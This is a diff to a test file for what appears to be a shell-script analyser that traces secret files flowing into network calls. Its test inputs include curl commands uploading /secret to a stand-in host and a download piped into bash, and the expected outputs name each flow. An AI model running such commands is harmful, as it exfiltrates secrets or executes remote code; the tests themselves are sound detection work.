@@ -64,6 +64,8 @@ it.each([
     'curl -o /tmp/i.sh https://a.example/i\nbash /tmp/i.sh',
     'curl(https://a.example/i) -> bash via a.sh:1 a.sh:2',
   ],
+  ['curl -F "f=@/secret;type=text/plain" https://a.example', '<(/secret) -> curl via a.sh:1'],
+  ['curl -T /secret https://a.example', '<(/secret) -> curl via a.sh:1'],
   ['{ cat /secret; echo; } | curl -d @- https://a.example', 'cat(/secret) -> curl via a.sh:1'],
 ])('follows %s', async (script, flow) => {
   expect(flows(await factsOf({ 'a.sh': script }))).toContain(flow)
